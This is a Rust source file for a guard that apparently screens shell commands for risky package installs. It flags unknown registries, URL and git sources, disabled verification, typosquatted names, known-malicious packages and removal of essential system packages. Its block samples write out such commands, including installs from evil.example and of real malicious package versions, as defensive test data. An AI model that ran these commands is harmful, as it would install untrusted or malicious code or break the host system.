//! Guard against packages from unknown sources, and typosquats.
//!
//! Everything is judged offline from the command: the package's source, whether it is verified, and whether
//! its name resembles another one.

mod hosts;
mod manifest;
mod names;
mod similar;

use names::Ecosystem;
use tenter_shell::Act;
use tenter_shell::{Effect, Kind, Ran, Role};

use crate::finding::{At, Found};
use crate::guard::{Check, Guard, OptionKind, OptionSpec};
use crate::level::Weight;
use crate::pattern;
use crate::sample::Sample;
use crate::scene::Scene;

const OTHER_REGISTRY: Check = Check {
    id: "other-registry",
    weight: Weight::Doubtful,
    title: "installs from a registry that is not well known",
    instead: "install from the public registry, without naming another one",
    safe: &["pip install requests", "npm install"],
};

const DIRECT_SOURCE: Check = Check {
    id: "direct-source",
    weight: Weight::Doubtful,
    title: "installs a package from an address or repository",
    instead: "install the released version from the registry",
    safe: &["npm install left-pad@1.3.0"],
};

const NEW_SOURCE: Check = Check {
    id: "new-source",
    weight: Weight::Doubtful,
    title: "adds a package source permanently",
    instead: "install from the existing sources",
    safe: &["sudo apt-get install -y build-essential"],
};

const UNCHECKED: Check = Check {
    id: "unchecked",
    weight: Weight::Doubtful,
    title: "skips certificate, signature or checksum verification of packages",
    instead: "keep the verification on, and report why it fails",
    safe: &["pip install requests"],
};

const LOOKALIKE: Check = Check {
    id: "lookalike",
    weight: Weight::Doubtful,
    title: "installs a package whose name resembles a well-known one",
    instead: "check the spelling of the name",
    safe: &["npm install lodash", "pip install requests"],
};

const DENIED: Check = Check {
    id: "denied",
    weight: Weight::Grave,
    title: "installs a package that is known to be malicious, or that the policy denies",
    instead: "do without this package or version",
    safe: &[],
};

const ESSENTIAL: Check = Check {
    id: "essential",
    weight: Weight::Doubtful,
    title: "removes a package the system needs",
    instead: "remove only packages you installed",
    safe: &[],
};

const SCRIPTS: Check = Check {
    id: "scripts",
    weight: Weight::Minor,
    title: "lets installed packages run their scripts",
    instead: "install without the option",
    safe: &["npm install"],
};

const NEW_PACKAGE: Check = Check {
    id: "new-package",
    weight: Weight::Minor,
    title: "installs a package that no manifest or lock file names",
    instead: "use what the project already depends on",
    safe: &["npm ci"],
};

const GLOBAL: Check = Check {
    id: "global",
    weight: Weight::Minor,
    title: "installs a package for the whole user or machine",
    instead: "install it into the project or a virtual environment",
    safe: &["npm install --save-dev typescript", "python3 -m venv .venv"],
};

pub(super) static GUARD: Guard = Guard {
    id: "packages",
    title: "Packages from unknown sources, and lookalikes of well-known ones",
    page: "\
Installing a package runs somebody's code. This guard looks at what npm, pnpm, yarn, bun, pip, uv, \
poetry, pipx, cargo, go, gem, bundler, brew, apt and other package managers are told to install:

- from another registry than a well-known one (options, settings and environment variables), with \
certificates or signatures unchecked, or straight from an address or a git repository;
- sources that are added for good: Homebrew taps, PPAs, repositories of a distribution;
- names that look like a well-known one on npm, PyPI, crates.io, RubyGems or among Go modules: one \
letter wrong, other separators, swapped words, `python-` or `-js` added, or the name of the module \
instead of that of the package;
- packages and versions that are known to have been malicious, as far as a short list goes;
- packages of the system that it cannot do without, when they are removed.

Ordinary installs pass: from a manifest or lock file, from a local path, by name from the usual \
registry. A package that the project does not name yet is only recorded, and so are global installs.

It works offline. It cannot know whether a package exists, how old it is, who publishes it or what \
is in it: a name that looks like no other says nothing about the package behind it.

Options: `registries` are hosts of registries that may be used; `deny` are packages that may not; \
`allow` are packages, hosts and repositories (`github.com/me/**`) that are never asked about.",
    checks: &[
        OTHER_REGISTRY,
        DIRECT_SOURCE,
        NEW_SOURCE,
        UNCHECKED,
        LOOKALIKE,
        DENIED,
        ESSENTIAL,
        SCRIPTS,
        NEW_PACKAGE,
        GLOBAL,
    ],
    options: &[
        OptionSpec {
            name: "registries",
            kind: OptionKind::Patterns,
            title: "hosts of registries that packages may come from",
            loosens: true,
        },
        OptionSpec {
            name: "deny",
            kind: OptionKind::Patterns,
            title: "packages that may not be installed",
            loosens: false,
        },
    ],
    optional: false,
    blocks: &[
        (Sample::Shell("pip install -i https://pypi.evil.example/simple left"), "other-registry"),
        (Sample::Shell("pip install --extra-index-url http://pypi.org/simple x"), "other-registry"),
        (Sample::Shell("npm i left --registry=https://npm.evil.example"), "other-registry"),
        (Sample::Shell("npm config set registry https://npm.evil.example"), "other-registry"),
        (Sample::Shell("PIP_INDEX_URL=https://evil.example/s uv pip install x"), "other-registry"),
        (Sample::Shell("GOPROXY=https://evil.example,direct go get h.com/x"), "other-registry"),
        (Sample::Shell("gem install left --source https://evil.example"), "other-registry"),
        (Sample::Shell("npm install https://evil.example/left.tgz"), "direct-source"),
        (Sample::Shell("pip install git+https://github.com/stranger/thing"), "direct-source"),
        (Sample::Shell("cargo install --git https://github.com/stranger/thing"), "direct-source"),
        (Sample::Shell("yarn add stranger/thing"), "direct-source"),
        (Sample::Shell("brew install stranger/tap/thing"), "direct-source"),
        (Sample::Shell("go install evil.example/thing@latest"), "direct-source"),
        (Sample::Shell("pip install -r https://evil.example/r.txt"), "direct-source"),
        (Sample::Shell("brew tap stranger/tap"), "new-source"),
        (Sample::Shell("sudo add-apt-repository -y ppa:stranger/ppa"), "new-source"),
        (Sample::Shell("dnf config-manager --add-repo https://evil.example/x.repo"), "new-source"),
        (Sample::Shell("pip install --trusted-host evil.example left"), "unchecked"),
        (Sample::Shell("apt-get install -y --allow-unauthenticated left"), "unchecked"),
        (Sample::Shell("npm config set strict-ssl false"), "unchecked"),
        (Sample::Shell("npm install loadsh"), "lookalike"),
        (Sample::Shell("pip install reqeusts==2.31.0"), "lookalike"),
        (Sample::Shell("pnpm add -D crossenv"), "lookalike"),
        (Sample::Shell("cargo add tokoi --features full"), "lookalike"),
        (Sample::Shell("gem install rials"), "lookalike"),
        (Sample::Shell("go get github.com/siruspen/logrus"), "lookalike"),
        (Sample::Shell("npx -y typescirpt"), "lookalike"),
        (Sample::Shell("pip install huggingface-cli"), "lookalike"),
        (Sample::Shell("uv add 'r\u{435}quests'"), "lookalike"),
        (Sample::Shell("npm install flatmap-stream"), "denied"),
        (Sample::Shell("npm i ua-parser-js@0.7.29"), "denied"),
        (Sample::Shell("pip install torchtriton"), "denied"),
        (Sample::Shell("sudo apt-get purge -y sudo"), "essential"),
        (Sample::Shell("apt remove --purge python3"), "essential"),
        (Sample::Shell("dnf -y remove glibc"), "essential"),
        (Sample::Shell("npm install --foreground-scripts"), "scripts"),
        (Sample::Shell("npm install --ignore-scripts=false left"), "scripts"),
        (Sample::Shell("npm install some-package"), "new-package"),
        (Sample::Shell("npm install -g typescript"), "global"),
        (Sample::Shell("sudo pip install requests"), "global"),
    ],
    passes: &[
        Sample::Shell("npm install"),
        Sample::Shell("npm ci"),
        Sample::Shell("npm install react react-dom"),
        Sample::Shell("npm install --save-dev @types/node@20 vitest"),
        Sample::Shell("npm i preact lodash-es colors"),
        Sample::Shell("npm i my-own-thing @acme/thing"),
        Sample::Shell("npm i ua-parser-js@1.0.38 chalk@5 event-stream@4"),
        Sample::Shell("npm install ./packages/core file:../shared"),
        Sample::Shell("npm install --registry https://registry.npmjs.org left"),
        Sample::Shell("npm config set registry http://localhost:4873"),
        Sample::Shell("npm config set fund false"),
        Sample::Shell("npm install -g npm@latest"),
        Sample::Shell("npx create-next-app@latest web"),
        Sample::Shell("npx tsc --noEmit"),
        Sample::Shell("npx changeset status"),
        Sample::Shell("pnpm add -Dw turbo"),
        Sample::Shell("yarn add --dev jest ts-jest"),
        Sample::Shell("bun add hono zod"),
        Sample::Shell("pip install -r requirements.txt"),
        Sample::Shell("pip install -e '.[dev]'"),
        Sample::Shell("pip install --upgrade pip setuptools wheel"),
        Sample::Shell("pip install 'fastapi[standard]>=0.110' uvicorn"),
        Sample::Shell("pip install torch --index-url https://download.pytorch.org/whl/cu121"),
        Sample::Shell("pip install --no-index --find-links ./wheels left"),
        Sample::Shell("uv add httpx && uv sync"),
        Sample::Shell("uv python install 3.12"),
        Sample::Shell("poetry add --group dev pytest-cov"),
        Sample::Shell("pipx install ruff"),
        Sample::Shell("cargo build --release"),
        Sample::Shell("cargo add serde --features derive"),
        Sample::Shell("cargo install --path ."),
        Sample::Shell("cargo install cargo-nextest --locked"),
        Sample::Shell("go get github.com/gin-gonic/gin@v1.9.1"),
        Sample::Shell("go install golang.org/x/tools/gopls@latest"),
        Sample::Shell("go install ./cmd/server"),
        Sample::Shell("GOPROXY=direct go mod download"),
        Sample::Shell("gem install bundler"),
        Sample::Shell("bundle install"),
        Sample::Shell("brew install jq ripgrep"),
        Sample::Shell("brew install hashicorp/tap/terraform"),
        Sample::Shell("sudo apt-get install -y build-essential"),
        Sample::Shell("sudo add-apt-repository universe"),
        Sample::Shell("apt-get remove -y nginx"),
        Sample::Shell("pip uninstall -y requests"),
        Sample::Shell("echo npm install loadsh"),
        Sample::Shell("git commit -m 'pip install reqeusts was a typo'"),
    ],
    look,
};

fn look(scene: &Scene<'_>, found: &mut Found<'_>) {
    for effect in scene.effects() {
        match (effect.kind, effect.action) {
            (Kind::Install, Act::Install | Act::InstallGlobal) => install(scene, effect, found),
            (Kind::Execute, Act::PackageCode) => run(scene, effect, found),
            (Kind::Install, Act::InstallUrl | Act::InstallGit) => direct(scene, effect, found),
            (Kind::Install, Act::Index) => registry(effect, found),
            (Kind::Install, Act::RepositoryAdd) => source(effect, found),
            (Kind::Install, Act::Unchecked) => unchecked(effect, found),
            (Kind::Install, Act::Uninstall) => removal(scene, effect, found),
            _ => {}
        }
        if effect.kind == Kind::Install {
            scripts(scene, effect, found);
        }
    }
}

fn ecosystem(scene: &Scene<'_>, effect: &Effect) -> Option<Ecosystem> {
    Ecosystem::of(scene.program(effect)?)
}

fn install(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
    let target = effect.target.shown();
    let Some(ecosystem) = ecosystem(scene, effect) else {
        return denied(effect, &target, found);
    };
    let Some(name) = ecosystem.name(&target) else { return };
    denied(effect, name, found);
    malicious(ecosystem, effect, name, found);
    if ecosystem == Ecosystem::System {
        return tapped(effect, name, found);
    }
    lookalike(ecosystem, effect, name, found);
    if ecosystem == Ecosystem::Go {
        module(effect, name, found);
    }
    if effect.elsewhere {
        return;
    }
    let program = scene.program(effect);
    let as_root =
        program.is_some_and(|program| program.via.iter().any(|via| via.is(Role::BecomesRoot)));
    if effect.action == Act::InstallGlobal || as_root {
        let what = format!("installs `{name}` for the whole user or machine");
        found.add(&GLOBAL, At::effect(effect, name), what);
    } else if found.wants(&NEW_PACKAGE) {
        let cwd = program.and_then(|program| program.cwd.as_deref());
        if !manifest::names(scene, cwd, ecosystem, name) {
            let what = format!(
                "installs `{name}` from {}, in no manifest or lock file here",
                ecosystem.title()
            );
            found.add(&NEW_PACKAGE, At::effect(effect, name), what);
        }
    }
}

/// Checks a Go module, which is named by its location.
fn module(effect: &Effect, path: &str, found: &mut Found<'_>) {
    let host = path.split('/').next().unwrap_or_default();
    let registries = found.setting().patterns("registries");
    let allowed = registries.iter().any(|allowed| pattern::matches(allowed, host));
    if !allowed && !hosts::has_modules(host) {
        let what = format!("installs code from {path}, an unknown module host");
        found.add(&DIRECT_SOURCE, At::effect(effect, path), what);
    }
}

/// Checks packages that are fetched and run.
fn run(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
    let Some(ecosystem) = ecosystem(scene, effect) else { return };
    let target = effect.target.shown();
    if target.contains("://") {
        return;
    }
    let Some(name) = ecosystem.name(&target) else { return };
    denied(effect, name, found);
    malicious(ecosystem, effect, name, found);
    lookalike(ecosystem, effect, name, found);
    if ecosystem == Ecosystem::Go {
        module(effect, name, found);
    }
}

fn denied(effect: &Effect, name: &str, found: &mut Found<'_>) {
    let patterns = found.setting().patterns("deny");
    if patterns.iter().any(|denied| pattern::matches(denied, name)) {
        let what = format!("installs `{name}`, which the policy does not allow");
        found.add(&DENIED, At::effect(effect, name), what);
    }
}

fn malicious(ecosystem: Ecosystem, effect: &Effect, name: &str, found: &mut Found<'_>) {
    let asked = effect.target.shown();
    if names::is_bad(ecosystem, name, &asked) {
        let what = format!("installs `{asked}`, known to be malicious");
        found.add(&DENIED, At::effect(effect, name), what);
    }
}

fn lookalike(ecosystem: Ecosystem, effect: &Effect, name: &str, found: &mut Found<'_>) {
    let what = if !name.is_ascii() {
        format!("installs `{name}`, a name with lookalike letters")
    } else if let Some(meant) = names::meant(ecosystem, name) {
        format!("installs `{name}`; the real package is `{meant}`")
    } else if let Some(similar) = similar::similar(ecosystem, name) {
        format!("installs `{name}`, which {} `{}`", similar.how, similar.known)
    } else {
        return;
    };
    found.add(&LOOKALIKE, At::effect(effect, name), what);
}

/// Checks `brew install owner/tap/formula`.
fn tapped(effect: &Effect, name: &str, found: &mut Found<'_>) {
    if name.matches('/').count() < 2 {
        return;
    }
    if hosts::foreign_repository(name, found.setting().patterns("registries")).is_some() {
        let what = format!("installs `{name}` from a repository of its own");
        found.add(&DIRECT_SOURCE, At::effect(effect, name), what);
    }
}

fn direct(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
    let target = effect.target.shown();
    let place = hosts::place(&target);
    let host = place.split('/').next().unwrap_or_default();
    let registries = found.setting().patterns("registries");
    let allowed = registries.iter().any(|allowed| pattern::matches(allowed, host));
    if allowed || hosts::is_local(host) || (hosts::is_known(host) && !target.contains("http://")) {
        return;
    }
    denied(effect, &place, found);
    let from = if effect.action == Act::InstallGit { "the repository" } else { "the address" };
    let with = scene.program(effect).map(Ran::to_string).unwrap_or_default();
    let what = format!("installs code from {from} {place} with {with}");
    found.add(&DIRECT_SOURCE, At::effect(effect, &place), what);
}

fn registry(effect: &Effect, found: &mut Found<'_>) {
    let target = effect.target.shown();
    // `GOPROXY` is a list.
    for address in target.split([',', '|', ' ']) {
        let registries = found.setting().patterns("registries");
        let Some(host) = hosts::foreign(address, registries) else { continue };
        let what = if hosts::is_known(host) {
            format!("installs packages from {host} over an unverified connection")
        } else {
            format!("installs packages from the registry {host}")
        };
        found.add(&OTHER_REGISTRY, At::effect(effect, host), what);
    }
}

fn source(effect: &Effect, found: &mut Found<'_>) {
    let target = effect.target.shown();
    let registries = found.setting().patterns("registries");
    if let Some(place) = hosts::foreign_repository(&target, registries) {
        let what = format!("adds {place} as a package source");
        found.add(&NEW_SOURCE, At::effect(effect, place), what);
    }
}

fn unchecked(effect: &Effect, found: &mut Found<'_>) {
    let target = effect.target.shown();
    if hosts::is_local(target.split(':').next().unwrap_or_default()) {
        return;
    }
    let what = "disables package verification";
    found.add(&UNCHECKED, At::effect(effect, &target), what);
}

/// Packages needed to boot, install packages or log in.
const SYSTEM: &[&str] = &[
    "apt",
    "base-files",
    "bash",
    "coreutils",
    "dash",
    "dbus",
    "dnf",
    "dpkg",
    "e2fsprogs",
    "filesystem",
    "glibc",
    "gnome-shell",
    "grub",
    "grub-pc",
    "grub2",
    "init",
    "initramfs-tools",
    "kernel",
    "libc6",
    "linux",
    "linux-image-generic",
    "login",
    "lvm2",
    "mount",
    "network-manager",
    "networkmanager",
    "openssh-server",
    "openssl",
    "pacman",
    "pam",
    "passwd",
    "perl-base",
    "python",
    "python3",
    "python3-minimal",
    "rpm",
    "shadow",
    "sudo",
    "systemd",
    "systemd-sysv",
    "ubuntu-desktop",
    "ubuntu-minimal",
    "udev",
    "util-linux",
    "yum",
    "zlib1g",
];

/// Whether the packages come from a list of installed ones: `rpm -qa | xargs rpm -e`.
fn lists_installed(scene: &Scene<'_>, effect: &Effect) -> bool {
    let Some(program) = scene.program(effect) else { return false };
    let all = ["-qa", "-Qq", "-Qqe", "-Qqn", "-Qqen", "list", "leaves", "--get-selections", "info"];
    scene.analysis.commands.iter().any(|ran| {
        ran.is_named(&program.to_string())
            && ran.argv.iter().any(|word| all.iter().any(|known| word.is(known)))
    })
}

fn removal(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
    if effect.elsewhere || ecosystem(scene, effect) != Some(Ecosystem::System) {
        return;
    }
    let name = effect.target.shown();
    let brew = scene.is(effect, Role::UserPackages);
    let kernel = name.strip_prefix("linux-image-").or_else(|| name.strip_prefix("kernel-"));
    let every = name == "*" || kernel.is_some_and(|rest| rest.contains('*'));
    if name.starts_with("$(") && lists_installed(scene, effect) {
        found.add(&ESSENTIAL, At::effect(effect, &name), "removes every installed package");
        return;
    }
    if !brew && (SYSTEM.contains(&&*name) || every) {
        let what = format!("removes `{name}`, which the system needs");
        found.add(&ESSENTIAL, At::effect(effect, &name), what);
    }
}

fn scripts(scene: &Scene<'_>, effect: &Effect, found: &mut Found<'_>) {
    let Some(program) = scene.program(effect) else { return };
    if Ecosystem::of(program) != Some(Ecosystem::Npm) {
        return;
    }
    let on = program.argv.iter().find(|field| {
        field.exact().is_some_and(|text| {
            matches!(
                text,
                "--foreground-scripts"
                    | "--ignore-scripts=false"
                    | "--no-ignore-scripts"
                    | "--unsafe-perm"
                    | "--dangerously-allow-all-builds"
            )
        })
    });
    if let Some(option) = on {
        let what = "lets installed packages run their scripts";
        found.add(&SCRIPTS, At::span(option.span, ""), what);
    }
}

#[cfg(test)]
mod tests;
